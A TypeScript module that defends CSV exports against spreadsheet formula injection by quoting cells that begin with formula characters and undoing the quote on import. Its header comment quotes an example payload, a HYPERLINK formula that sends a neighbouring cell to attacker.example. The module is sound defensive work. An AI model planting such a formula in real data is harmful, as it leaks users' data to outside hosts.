/**
 * CSV that cannot attack its reader. A spreadsheet opening a CSV runs a cell that starts with `=`,
 * `+`, `-` or `@` (and, in some, a tab or carriage return) as a formula: a participant's free text
 * `=HYPERLINK("http://attacker.example/?d="&A2,"Open")` would send the row next to it to another
 * site. Following OWASP's CSV Injection guidance (https://owasp.org/www-community/attacks/CSV_Injection),
 * such a cell is written with a leading single quote, which spreadsheets show as text. Plain numbers
 * (`-3`, `+1.5`, `-2e-3`) are left alone, so R, SPSS and the import still read them as numbers.
 *
 * The quote is taken back off on import (`restoreCell`), so an exported `answers_long.csv` imports
 * exactly: a text that itself began with quotes before a formula character gets one more on the way
 * out and loses exactly one on the way in.
 */
import { stringify } from 'csv-stringify/sync'

/** The first characters that make a spreadsheet evaluate a cell. */
const formulaStart = /^'*[=+\-@\t\r]/
const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/

/**
 * A cell as it is written: a leading `'` when a spreadsheet would run it as a formula.
 *
 * @example
 * neutraliseCell('=1+1') // "'=1+1"
 * neutraliseCell('-3') // '-3' (a number)
 * neutraliseCell("'=x") // "''=x" (restoreCell gives "'=x" back)
 * neutraliseCell('AT&T') // 'AT&T'
 */
export function neutraliseCell(value: string): string {
  return formulaStart.test(value) && !plainNumber.test(value) ? `'${value}` : value
}

/**
 * The inverse of `neutraliseCell`, for reading a CSV the platform wrote.
 *
 * @example
 * restoreCell("'=1+1") // '=1+1'
 * restoreCell("'tis") // "'tis" (untouched: it was never neutralised)
 */
export function restoreCell(value: string): string {
  return /^''*[=+\-@\t\r]/.test(value) && !plainNumber.test(value.slice(1)) ? value.slice(1) : value
}

/** UTF-8's byte-order mark: Excel needs it to read a CSV as UTF-8 (Persian, accents) rather than the local code page. */
export const utf8Bom = '\uFEFF'

/**
 * `csv-stringify`'s `stringify`, with every string cell neutralised. Numbers, booleans and empty
 * cells are written as csv-stringify writes them.
 */
export function stringifyCsv(rows: unknown[][]): string {
  return stringify(rows, { cast: { string: (value) => neutraliseCell(value) } })
}
